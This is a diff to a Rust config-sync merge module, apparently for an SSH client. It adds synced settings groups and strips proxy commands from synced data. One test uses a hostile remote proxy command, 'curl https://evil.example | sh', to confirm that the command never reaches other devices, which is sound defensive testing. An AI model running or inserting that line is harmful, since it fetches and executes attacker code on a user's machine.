@@ -6,12 +6,16 @@
 use crate::config::sync_protocol::{
     absent_summary, build_conflict, hash_additional_prompt, hash_ai_channel, hash_ai_model,
     hash_authentication, hash_proxy, hash_server, hash_sftp_command, hash_snippet,
-    local_synced_hashes, make_resolution_token, rebuild_removed_ids, remote_entity_hashes,
-    remote_has_tombstone, summary_additional_prompt, summary_ai_channel, summary_ai_model,
-    summary_authentication, summary_proxy, summary_server, summary_sftp_command, summary_snippet,
-    DeletionTombstone, EntityKey, EntitySummary, SyncConflict, SyncConflictKind, SyncEntityType,
-    SyncError, SyncErrorKind, SyncResolution, SyncResolutionChoice, ADDITIONAL_PROMPT_ENTITY_ID,
-    SYNC_SCHEMA_VERSION,
+    keep_local_proxy_commands, local_synced_hashes, make_resolution_token, rebuild_removed_ids,
+    remote_entity_hashes, remote_has_tombstone, strip_proxy_command, summary_additional_prompt,
+    summary_ai_channel, summary_ai_model, summary_authentication, summary_proxy, summary_server,
+    summary_sftp_command, summary_snippet, DeletionTombstone, EntityKey, EntitySummary,
+    SyncConflict, SyncConflictKind, SyncEntityType, SyncError, SyncErrorKind, SyncResolution,
+    SyncResolutionChoice, ADDITIONAL_PROMPT_ENTITY_ID, SYNC_SCHEMA_VERSION,
+};
+use crate::config::sync_settings::{
+    apply_remote_group, group_display_name, is_opted_in, keep_remote_group, local_group_hash,
+    local_group_summary, opt_out, remote_group_hash, remote_group_summary, upload_group,
 };
 use crate::config::sync_state::AccountSyncBaseline;
 use crate::config::types::{
@@ -194,6 +198,7 @@ fn remote_maps(remote: &SyncConfig) -> EntityMaps {
             .proxies
             .iter()
             .cloned()
+            .map(strip_proxy_command)
             .map(|p| (p.id.clone(), p))
             .collect(),
         snippets: remote
@@ -292,7 +297,11 @@ fn entity_exists_in_local(config: &Config, entity_type: SyncEntityType, id: &str
             .sftp_custom_commands
             .iter()
             .any(|entity| entity.id == id),
-        SyncEntityType::AdditionalPrompt => false,
+        SyncEntityType::AdditionalPrompt
+        | SyncEntityType::Theme
+        | SyncEntityType::TerminalSettings
+        | SyncEntityType::SftpSettings
+        | SyncEntityType::EditorRules => false,
     }
 }
 
@@ -310,7 +319,11 @@ fn entity_exists_in_remote(remote: &SyncConfig, entity_type: SyncEntityType, id:
             .sftp_custom_commands
             .iter()
             .any(|entity| entity.id == id),
-        SyncEntityType::AdditionalPrompt => false,
+        SyncEntityType::AdditionalPrompt
+        | SyncEntityType::Theme
+        | SyncEntityType::TerminalSettings
+        | SyncEntityType::SftpSettings
+        | SyncEntityType::EditorRules => false,
     }
 }
 
@@ -411,6 +424,10 @@ fn local_present_hash(config: &Config, key: &EntityKey) -> Option<String> {
                 None => None,
             }
         }
+        SyncEntityType::Theme
+        | SyncEntityType::TerminalSettings
+        | SyncEntityType::SftpSettings
+        | SyncEntityType::EditorRules => local_group_hash(config, key.entity_type),
     }
 }
 
@@ -433,6 +450,11 @@ fn local_sync_is_disabled(config: &Config, key: &EntityKey) -> bool {
             .iter()
             .any(|c| c.id == key.id && !c.synced),
         SyncEntityType::AdditionalPrompt => false,
+        // A group that is not opted in behaves like an entity with its sync toggle off.
+        SyncEntityType::Theme
+        | SyncEntityType::TerminalSettings
+        | SyncEntityType::SftpSettings
+        | SyncEntityType::EditorRules => !is_opted_in(&config.general, key.entity_type),
     }
 }
 
@@ -487,6 +509,10 @@ fn remote_present_hash(remote: &SyncConfig, key: &EntityKey) -> Option<String> {
                 }
             }
         }
+        SyncEntityType::Theme
+        | SyncEntityType::TerminalSettings
+        | SyncEntityType::SftpSettings
+        | SyncEntityType::EditorRules => remote_group_hash(remote, key.entity_type),
     }
 }
 
@@ -666,6 +692,19 @@ fn summaries_for(
             }
             (l, r, "Additional prompt".into())
         }
+        SyncEntityType::Theme
+        | SyncEntityType::TerminalSettings
+        | SyncEntityType::SftpSettings
+        | SyncEntityType::EditorRules => {
+            let name = group_display_name(key.entity_type);
+            let l = local_group_summary(local, key.entity_type)
+                .filter(|_| local_hash.is_some())
+                .unwrap_or_else(|| absent_summary(name));
+            let r = remote_group_summary(remote, key.entity_type)
+                .filter(|_| remote_hash.is_some())
+                .unwrap_or_else(|| absent_summary(name));
+            (l, r, name.to_string())
+        }
     };
     let _ = (local_hash, remote_hash);
     (local_sum, remote_sum, name)
@@ -712,7 +751,11 @@ fn collect_keys(
                     SyncEntityType::SftpCustomCommand => {
                         local.sftp_custom_commands.iter().any(|c| c.id == *id)
                     }
-                    SyncEntityType::AdditionalPrompt => false,
+                    SyncEntityType::AdditionalPrompt
+                    | SyncEntityType::Theme
+                    | SyncEntityType::TerminalSettings
+                    | SyncEntityType::SftpSettings
+                    | SyncEntityType::EditorRules => false,
                 };
             let remote_hit = remote_present_hash(remote, &key).is_some();
             let base_hit = baseline
@@ -865,6 +908,17 @@ pub fn merge_configs_with_token_secret(
             decision = AutoDecision::KeepLocal;
         }
 
+        // Opting into a settings group adopts the shared value instead of asking. Older clients
+        // drop the unknown `settings` field when they rewrite the document, so a group missing
+        // without a tombstone is uploaded again rather than deleted.
+        if key.entity_type.is_settings_group() && local_hash.is_some() {
+            if base_hash.is_none() && remote_hash.is_some() {
+                decision = AutoDecision::UseRemote;
+            } else if remote_hash.is_none() && !remote_has_tombstone(remote, key) {
+                decision = AutoDecision::KeepLocal;
+            }
+        }
+
         // A tombstone is authoritative for deletion until the user explicitly chooses a restore.
         // If the local side still has the pre-delete base content, remote deletion can converge
         // automatically. Any local change or post-delete residual must instead be resolved.
@@ -986,6 +1040,7 @@ pub fn merge_configs_with_token_secret(
         sftp_custom_commands: vec![],
         additional_prompt: None,
         additional_prompt_updated_at: None,
+        settings: Default::default(),
         tombstones: vec![],
         removed_ids: vec![],
     };
@@ -1079,6 +1134,38 @@ pub fn merge_configs_with_token_secret(
                 }
                 continue;
             }
+            ty if ty.is_settings_group() => {
+                match choice {
+                    ChosenValue::Local => {
+                        upload_group(local, &mut out_remote, ty);
+                        if let Some(h) = local_group_hash(local, ty) {
+                            baseline_hashes.insert(key.clone(), h);
+                        }
+                    }
+                    ChosenValue::Remote => {
+                        apply_remote_group(remote, &mut out_local, ty);
+                        keep_remote_group(remote, &mut out_remote, ty);
+                        if let Some(h) = remote_present_hash(remote, key) {
+                            baseline_hashes.insert(key.clone(), h);
+                        }
+                    }
+                    ChosenValue::LocalOnly => {
+                        if let Some(h) = remote_present_hash(remote, key) {
+                            keep_remote_group(remote, &mut out_remote, ty);
+                            baseline_hashes.insert(key.clone(), h);
+                        }
+                    }
+                    ChosenValue::Deleted => {
+                        // Stop syncing the group on this device; its local values stay.
+                        opt_out(&mut out_local.general, ty);
+                        tombstone_keys.push(key.clone());
+                        out_remote
+                            .tombstones
+                            .push(DeletionTombstone::new(key.entity_type, key.id.clone()));
+                    }
+                }
+                continue;
+            }
             _ => {}
         }
 
@@ -1154,6 +1241,7 @@ pub fn merge_configs_with_token_secret(
     }
 
     out_remote.removed_ids = rebuild_removed_ids(&out_remote.tombstones);
+    keep_local_proxy_commands(&mut out_local.proxies, &local.proxies);
 
     // Reference integrity
     if let Err(err) = validate_references(&out_local) {
@@ -1220,7 +1308,11 @@ fn take_local_entity(map: &EntityMaps, key: &EntityKey) -> Option<AnyEntity> {
         SyncEntityType::SftpCustomCommand => {
             map.commands.get(&key.id).cloned().map(AnyEntity::Command)
         }
-        SyncEntityType::AdditionalPrompt => None,
+        SyncEntityType::AdditionalPrompt
+        | SyncEntityType::Theme
+        | SyncEntityType::TerminalSettings
+        | SyncEntityType::SftpSettings
+        | SyncEntityType::EditorRules => None,
     }
 }
 
@@ -1283,7 +1375,8 @@ fn push_remote_entity(remote: &mut SyncConfig, entity: AnyEntity, key: &EntityKe
             a.synced = true;
             remote.authentications.push(a);
         }
-        AnyEntity::Proxy(mut p) => {
+        AnyEntity::Proxy(p) => {
+            let mut p = strip_proxy_command(p);
             p.synced = true;
             remote.proxies.push(p);
         }
@@ -1358,6 +1451,10 @@ fn soft_delete_local(local: &mut Config, key: &EntityKey, lmap: &EntityMaps) {
             }
         }
         SyncEntityType::AdditionalPrompt => {}
+        SyncEntityType::Theme
+        | SyncEntityType::TerminalSettings
+        | SyncEntityType::SftpSettings
+        | SyncEntityType::EditorRules => opt_out(&mut local.general, key.entity_type),
     }
 }
 
@@ -1373,6 +1470,10 @@ fn remote_entity_in_out(remote: &SyncConfig, key: &EntityKey) -> bool {
             remote.sftp_custom_commands.iter().any(|c| c.id == key.id)
         }
         SyncEntityType::AdditionalPrompt => remote.additional_prompt.is_some(),
+        SyncEntityType::Theme
+        | SyncEntityType::TerminalSettings
+        | SyncEntityType::SftpSettings
+        | SyncEntityType::EditorRules => remote_group_hash(remote, key.entity_type).is_some(),
     }
 }
 
@@ -1476,6 +1577,8 @@ mod tests {
             proxy_id: None,
             jumphost_id: None,
             port_forwards: vec![],
+            dynamic_forward: None,
+            forward_agent: false,
             keep_alive: 0,
             auto_exec_commands: vec![],
             snippets: vec![],
@@ -1483,6 +1586,7 @@ mod tests {
             sftp_custom_commands: vec![],
             sftp_favorite_paths: vec![],
             additional_prompt: None,
+            recording_policy: None,
             synced: true,
             created_at: None,
             updated_at: "2020-01-01T00:00:00Z".into(),
@@ -1503,6 +1607,7 @@ mod tests {
             sftp_custom_commands: vec![],
             additional_prompt: None,
             additional_prompt_updated_at: None,
+            settings: Default::default(),
             tombstones: vec![],
             removed_ids: vec![],
         }
@@ -1517,6 +1622,8 @@ mod tests {
             key_content: None,
             passphrase: None,
             password: Some("secret".into()),
+            totp_secret: None,
+            certificate: None,
             synced: true,
             updated_at: "2020-01-01T00:00:00Z".into(),
         });
@@ -1529,6 +1636,7 @@ mod tests {
             username: None,
             password: None,
             ignore_ssl_errors: false,
+            command: None,
             synced: true,
             updated_at: "2020-01-01T00:00:00Z".into(),
         });
@@ -1592,6 +1700,7 @@ mod tests {
             sftp_custom_commands: config.sftp_custom_commands.clone(),
             additional_prompt: config.additional_prompt.clone(),
             additional_prompt_updated_at: config.additional_prompt_updated_at.clone(),
+            settings: Default::default(),
             tombstones: vec![],
             removed_ids: vec![],
         }
@@ -2097,6 +2206,8 @@ mod tests {
             key_content: None,
             passphrase: None,
             password: Some("secret".into()),
+            totp_secret: None,
+            certificate: None,
             synced: true,
             updated_at: "2020-01-01T00:00:00Z".into(),
         });
@@ -2123,4 +2234,82 @@ mod tests {
             Some(&SyncErrorKind::Format)
         );
     }
+
+    #[test]
+    fn opting_into_a_settings_group_adopts_the_remote_value() {
+        let mut local = Config::empty();
+        local.general.synced_settings = vec!["terminalSettings".into()];
+        local.general.theme = "dark".into();
+        let mut remote = empty_remote();
+        let mut team_terminal = local.general.terminal.clone();
+        team_terminal.font_size = 18;
+        remote.settings.terminal = Some(team_terminal);
+        remote.settings.theme = Some("light".into());
+
+        let product = merge_configs(&local, &remote, None, &[]);
+        assert!(product.conflicts.is_empty());
+        let merged_local = product.merged_local.unwrap();
+        let merged_remote = product.merged_remote.unwrap();
+        assert_eq!(merged_local.general.terminal.font_size, 18);
+        // The theme is not opted in: the remote keeps it and the local one is untouched.
+        assert_eq!(merged_local.general.theme, "dark");
+        assert_eq!(merged_remote.settings.theme.as_deref(), Some("light"));
+        assert!(product.baseline_hashes.contains_key(&EntityKey::new(
+            SyncEntityType::TerminalSettings,
+            "terminalSettings"
+        )));
+    }
+
+    #[test]
+    fn settings_group_is_deleted_only_by_a_tombstone() {
+        let mut local = Config::empty();
+        local.general.synced_settings = vec!["editorRules".into()];
+        local.general.sftp.editors = vec![crate::config::types::EditorRule {
+            id: "r1".into(),
+            pattern: "*.log".into(),
+            editor: "less".into(),
+        }];
+        let baseline = baseline_for_config(&local);
+
+        // An older client rewrote the document without the settings field.
+        let product = merge_configs(&local, &empty_remote(), Some(&baseline), &[]);
+        assert!(product.conflicts.is_empty());
+        let merged_remote = product.merged_remote.unwrap();
+        assert_eq!(merged_remote.settings.editor_rules.unwrap().len(), 1);
+        assert!(merged_remote.tombstones.is_empty());
+
+        let mut remote = empty_remote();
+        remote.tombstones.push(DeletionTombstone::new(
+            SyncEntityType::EditorRules,
+            "editorRules",
+        ));
+        let product = merge_configs(&local, &remote, Some(&baseline), &[]);
+        assert!(product.conflicts.is_empty());
+        let merged_local = product.merged_local.unwrap();
+        assert!(merged_local.general.synced_settings.is_empty());
+        assert_eq!(merged_local.general.sftp.editors.len(), 1);
+        assert_eq!(product.merged_remote.unwrap().tombstones.len(), 1);
+    }
+
+    #[test]
+    fn proxy_commands_stay_on_the_device_that_configured_them() {
+        let mut base = full_sync_config();
+        base.proxies[0].proxy_type = "command".into();
+        base.proxies[0].command = Some("nc %h %p".into());
+        let baseline = baseline_for_config(&base);
+
+        let mut remote = remote_from_config(&renamed_full_config(base.clone(), "remote"));
+        remote.proxies[0].command = Some("curl https://evil.example | sh".into());
+
+        let product = merge_configs(&base, &remote, Some(&baseline), &[]);
+        assert!(product.conflicts.is_empty());
+        let merged_local = product.merged_local.unwrap();
+        assert_eq!(merged_local.proxies[0].name, "Proxy remote");
+        assert_eq!(merged_local.proxies[0].command.as_deref(), Some("nc %h %p"));
+        assert_eq!(product.merged_remote.unwrap().proxies[0].command, None);
+
+        // A device that never configured the proxy gets it without a command.
+        let fresh = merge_configs(&Config::empty(), &remote, None, &[]);
+        assert_eq!(fresh.merged_local.unwrap().proxies[0].command, None);
+    }
 }